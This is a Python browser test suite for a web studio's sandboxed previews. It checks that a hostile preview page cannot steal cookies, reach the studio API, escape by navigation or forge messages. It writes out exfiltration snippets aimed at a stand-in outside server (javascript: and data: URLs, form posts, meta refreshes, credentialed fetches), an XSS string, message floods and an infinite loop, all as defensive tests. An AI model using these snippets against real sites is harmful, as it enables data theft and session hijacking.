"""A page in the preview that tries everything it can (`hostile_page.js`), and what the servers saw of it: nothing."""

from __future__ import annotations

import json
import re
import socket
import sqlite3
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.previews import LOAD, Previewing
from tests.live import StartStudio, eventually

pytestmark = [pytest.mark.browser, pytest.mark.live]

PAGE = Path(__file__).with_name("hostile_page.js").read_text("utf-8")


class Outside:
    """A server of somebody else: whoever connects, has leaked."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.body = b"hello"
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        threading.Thread(target=self._catch, daemon=True).start()
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()

    def _catch(self) -> None:
        """WebRTC asks by UDP."""
        while True:
            try:
                self.heard.append(f"udp {self._udp.recv(300)!r}")
            except OSError:
                return

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            connection.settimeout(1)
            try:
                self.heard.append(connection.recv(300).decode("latin-1").partition("\r\n")[0] or "connected")
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: %d\r\n\r\n%s"
                    % (len(self.body), self.body)
                )
            except OSError:
                self.heard.append("connected")
            finally:
                connection.close()


@dataclass
class Hostile(Previewing):
    """The studio on localhost, its previews on 127.0.0.1, and every request that came."""

    log: Path
    outside: Outside
    troubles: list[str] = field(default_factory=list)

    def put_page(self, path: str, body: str) -> None:
        """A page that knows where everything is."""
        places = {"STUDIO": self.studio, "PREVIEW": self.preview, "OUTSIDE": self.outside.url}
        given = "".join(f"const {name} = {json.dumps(place)};\n" for name, place in places.items())
        self.put(f"{path}.js", given + body)
        self.put(path, f'<!doctype html><body><p>hostile</p><script src="{path}.js"></script>')

    def requests(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def leaks(self) -> list[str]:
        """What of the page's doing reached a server: none of it may, but what it asks of its own address."""
        found = [f"outside: {line}" for line in self.outside.heard]
        for row in self.requests():
            own = row["host"].startswith("127.0.0.1") and re.match(r"/preview/[\w.-]+/", row["path"])
            if "leak" in row["path"] + row["query"] and not own:
                found.append(f"{row['method']} {row['host']}{row['path']}?{row['query']} from {row['origin']}")
        return found

    def entries(self) -> str:
        return self.page.locator(".console-list").inner_text()


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside()
    yield server
    server.close()


@pytest.fixture
def hostile(page: Page, start_studio: StartStudio, tmp_path: Path, outside: Outside) -> Callable[..., Hostile]:
    """Starts the server; `without`: headers that the preview's answers lose."""

    def start(without: str = "") -> Hostile:
        log = tmp_path / "requests.jsonl"
        log.touch()
        server = start_studio(
            env={
                "APPLICATION": "tests.browser.request_log:application",
                "WEBOX_TEST_REQUESTS": str(log),
                "WEBOX_TEST_WITHOUT": without,
            }
        )
        made = Hostile(page, server, log, outside)
        page.on("dialog", lambda dialog: (made.troubles.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("download", lambda download: made.troubles.append(f"download {download.url}"))
        page.context.on("page", lambda popup: made.troubles.append(f"popup {popup.url}"))
        return made

    return start


def revisions(hostile: Hostile) -> int:
    answer = hostile.page.context.request.get(f"{hostile.studio}/api/projects/1/revisions")
    return int(answer.json()["revisions"][0]["number"])


def try_everything(hostile: Hostile) -> str:
    """Runs the page; what it said it got."""
    hostile.put_page("hostile.html", PAGE)
    hostile.open("hostile.html")
    done = hostile.page.locator(".console-row", has_text="tried everything, got")
    expect(done).to_be_visible(timeout=LOAD)
    # its own page in a frame of it has no more rights than itself
    framed = hostile.page.locator(".console-row", has_text="tried everything in a frame, got")
    expect(framed.first).to_be_visible(timeout=LOAD)
    return f"{done.inner_text()} {framed.first.inner_text()}"


def test_a_hostile_page_gets_nothing_and_sends_nothing(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    page = world.page
    page.context.add_cookies([
        {"name": name, "value": "secret", "url": url}
        for name in ("sessionid", "csrftoken") for url in (world.preview, world.studio)
    ])  # fmt: skip
    before = page.title() if page.url.startswith("http") else ""
    assert try_everything(world).count("got []") == 2
    assert world.leaks() == []
    assert world.troubles == []
    assert revisions(world) == 3  # the demo, and the page itself with its script
    assert page.url == f"{world.studio}/projects/1/editor"
    assert page.title() != "leak"
    assert before != "leak"
    assert page.evaluate("({}).polluted") is None
    own = [row for row in world.requests() if row["host"].startswith("127.0.0.1")]
    assert own
    assert {row["path"].split("/")[1] for row in own} == {"preview"}
    conversations = page.context.request.get(f"{world.studio}/api/chat/conversations/1").json()["conversations"]
    assert conversations == []


def test_what_it_says_is_text_and_changes_nothing(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    try_everything(world)
    assert "<img src=x onerror=" in world.entries()
    assert world.page.locator(".console-list img").count() == 0
    assert world.page.locator(".preview .banner a").count() == 0
    longest = max(world.page.locator(".console-text").all_inner_texts(), key=len)
    assert len(longest) < 2000


def test_only_the_page_itself_is_heard(hostile: Callable[..., Hostile]) -> None:
    """Not a frame inside of it, nor another window: each would pass for the page, whose origin is nothing to go by."""
    world = hostile()
    forged = "{webox: 'preview', type: 'log', text: 'forged'}"
    world.put_page("inner.html", f"top.postMessage({forged}, '*'); parent.postMessage('spoken', '*');")
    outer = "addEventListener('message', (event) => console.log('the frame has', event.data));"
    outer += "document.body.append(Object.assign(document.createElement('iframe'), {src: 'inner.html'}));"
    world.put_page("outer.html", outer)
    world.open("outer.html")
    expect(world.page.locator(".console-row", has_text="the frame has spoken")).to_be_visible(timeout=LOAD)
    world.page.evaluate(f"postMessage({forged}, '*')")
    world.page.evaluate("new Promise((done) => { addEventListener('message', done); postMessage('after', '*'); })")
    assert "forged" not in world.entries()


@pytest.mark.parametrize("without", ["content-security-policy", "connection-allowlist"])
def test_the_proof_notices_a_header_that_is_gone(hostile: Callable[..., Hostile], without: str) -> None:
    world = hostile(without)
    try_everything(world)
    assert world.leaks() != []


def test_a_server_that_the_project_lists_is_reached_and_no_other(
    hostile: Callable[..., Hostile], outside: Outside
) -> None:
    world = hostile()
    database = sqlite3.connect(world.server.sqlite_path)
    # under another name: the loopback names are the studio's and the preview's own, and open to no setting
    listed = outside.url.replace("127.0.0.1", "outside.localhost")
    hosts = [listed, outside.url, world.studio, f"http://localhost:{outside.port}"]
    database.execute("UPDATE projects_project SET preview_hosts = ?", (json.dumps(hosts),))
    database.commit()
    database.close()
    ask = "const ask = (url) => fetch(url).then((a) => a.text(), () => 'refused');"
    ask += f"ask('{listed}').then((a) => console.log('listed', a));"
    ask += "ask(OUTSIDE + '/?leak').then((a) => console.log('same machine', a));"
    ask += "ask(STUDIO + '/?leak').then((a) => console.log('studio', a));"
    world.put_page("asks.html", ask)
    world.open("asks.html")
    for said in ("listed hello", "studio refused", "same machine refused"):
        expect(world.page.locator(".console-row", has_text=said)).to_be_visible(timeout=LOAD)
    assert [leak for leak in world.leaks() if not leak.startswith("outside")] == []


LEAVES = {
    "location": "location = OUTSIDE + '/?leak'",
    "studio": "location = STUDIO + '/api/projects/1/files?leak'",
    "preview": "location.replace(PREVIEW + '/projects/1/editor?leak')",
    "meta": "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=' + OUTSIDE + '/?leak\">'",
    "form": "document.body.innerHTML = '<form action=' + OUTSIDE + '/?leak>'; document.forms[0].submit()",
    "data": "location = 'data:text/html,leak<script>fetch(\"' + OUTSIDE + '\")</' + 'script>'",
    "script": "location = 'javascript:fetch(\"' + OUTSIDE + '/?leak\")'",
    "back": "history.go(-5); history.back(); history.go(-1)",
}


def test_a_page_that_leaves_takes_nothing_along(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    world.page.goto(f"{world.studio}/")
    for name, act in LEAVES.items():
        world.put_page(f"leave-{name}.html", f"console.log('leaving by {name}'); setTimeout(() => {{ {act} }}, 50);")
    world.open()
    for name in LEAVES:
        world.go(f"leave-{name}.html")
        expect(world.page.locator(".console-row", has_text=f"leaving by {name}")).to_be_visible(timeout=LOAD)
        # what follows within the next moment is in the log before the next page has said anything
    world.go("index.html")
    expect(world.page.frame_locator(".preview-frame").locator("h1")).to_be_visible(timeout=LOAD)
    assert world.leaks() == []
    assert world.troubles == []
    assert world.page.url == f"{world.studio}/projects/1/editor"


def test_a_page_that_never_stops_stops_nobody_else(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    world.put_page("loop.html", "console.log('begins'); setTimeout(() => { for (;;); }, 300);")
    world.open("loop.html")
    page = world.page
    expect(page.locator(".console-row", has_text="begins")).to_be_visible(timeout=LOAD)
    expect(page.locator(".preview .banner[data-name=trouble]")).to_be_visible(timeout=LOAD)
    began = time.monotonic()
    page.locator(".console-search").fill("the studio listens")
    assert time.monotonic() - began < 20
    page.locator(".preview .banner[data-name=trouble] button").first.click()
    expect(page.locator(".preview-frame")).to_have_count(0)
    world.go("index.html")
    expect(page.frame_locator(".preview-frame").locator("h1")).to_be_visible(timeout=LOAD)


def test_a_flood_of_messages_is_cut_off(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    said = "parent.postMessage({webox: 'preview', type: 'log', text: 'x' + n}, '*')"
    flood = f"setInterval(() => {{ for (let n = 0; n < 20000; n++) {said}; }}, 10)"
    world.put_page("flood.html", flood)
    world.open("flood.html")
    page = world.page
    expect(page.locator(".preview .banner[data-name=trouble]")).to_be_visible(timeout=LOAD)
    expect(page.locator(".preview-frame")).to_have_count(0)
    assert page.locator(".console-row").count() <= 400


def direct(context: BrowserContext, url: str) -> Page:
    tab = context.new_page()
    tab.goto(url)
    return tab


OPENED = {
    "direct.html": "<!doctype html><p>direct",
    "direct.svg": '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
    "direct.txt": "<script>document.title = 'ran'</script>",
    "direct.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:p>direct</h:p></x>',
    "direct.js": "1",
}
TRIES = """async () => {
  const read = (act) => { try { return String(act()); } catch { return "refused"; } };
  const own = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
  const ask = (path) => fetch(path, { credentials: "include" }).then(() => "answered", () => "refused");
  return {
    origin: window.origin,
    cookie: read(() => own.get.call(document)),
    database: read(() => indexedDB.open("x") && "open"),
    api: await ask("/api/projects/1/files?leak"),
    studio: await ask(STUDIO + "/api/projects/1/files?leak"),
    opener: read(() => window.opener),
    popup: read(() => window.open("/?leak")),
  };
}"""


def test_a_file_opened_by_itself_is_held_as_well(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    for path, text in OPENED.items():
        world.put(path, text)
    opened = world.page.context.request.get(f"{world.studio}/api/projects/1/preview").json()
    world.page.context.add_cookies([{"name": "sessionid", "value": "secret", "url": world.preview}])
    world.troubles.clear()
    for path in OPENED:
        tab = direct(world.page.context, opened["url"] + path)
        held = tab.evaluate(TRIES.replace("STUDIO", json.dumps(world.studio)))
        assert held == {
            "origin": "null", "cookie": "refused", "database": held["database"], "api": "refused",
            "studio": "refused", "opener": "null", "popup": "null",
        }, path  # fmt: skip
        assert held["database"] in ("refused", "open")  # opening is asked, never granted, without an origin
        assert tab.title() != "ran"
        tab.close()
    assert world.leaks() == []


def test_nobody_is_at_home_under_the_previews_name(hostile: Callable[..., Hostile]) -> None:
    """Without login, a browser is the person at this machine under the studio's name, and nobody under the other."""
    world = hostile()
    world.open()
    asked = world.page.context.request
    browser = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}
    for path in ("/api/projects/1/files", "/api/chat/conversations/1", "/api/chat/models", "/api/projects/1/export"):
        assert asked.get(world.preview + path, headers=browser).status in (401, 403), path
        assert asked.get(world.studio + path, headers=browser).status == 200, path
    eventually(lambda: asked.get(f"{world.studio}/api/projects/1/files").status == 200)


def test_nobody_else_shows_a_project_as_his_own(hostile: Callable[..., Hostile]) -> None:
    world = hostile()
    world.put("framed.html", "<!doctype html><h1>mine</h1>")
    opened = world.page.context.request.get(f"{world.studio}/api/projects/1/preview").json()
    tab = world.page.context.new_page()
    world.outside.body = f'<!doctype html><iframe src="{opened["url"]}framed.html"></iframe>'.encode()
    tab.goto(world.outside.url.replace("127.0.0.1", "elsewhere.localhost"), wait_until="commit")
    inside = tab.frame_locator("iframe").locator("html")
    eventually(lambda: inside.evaluate("html => html.childElementCount") == 0)
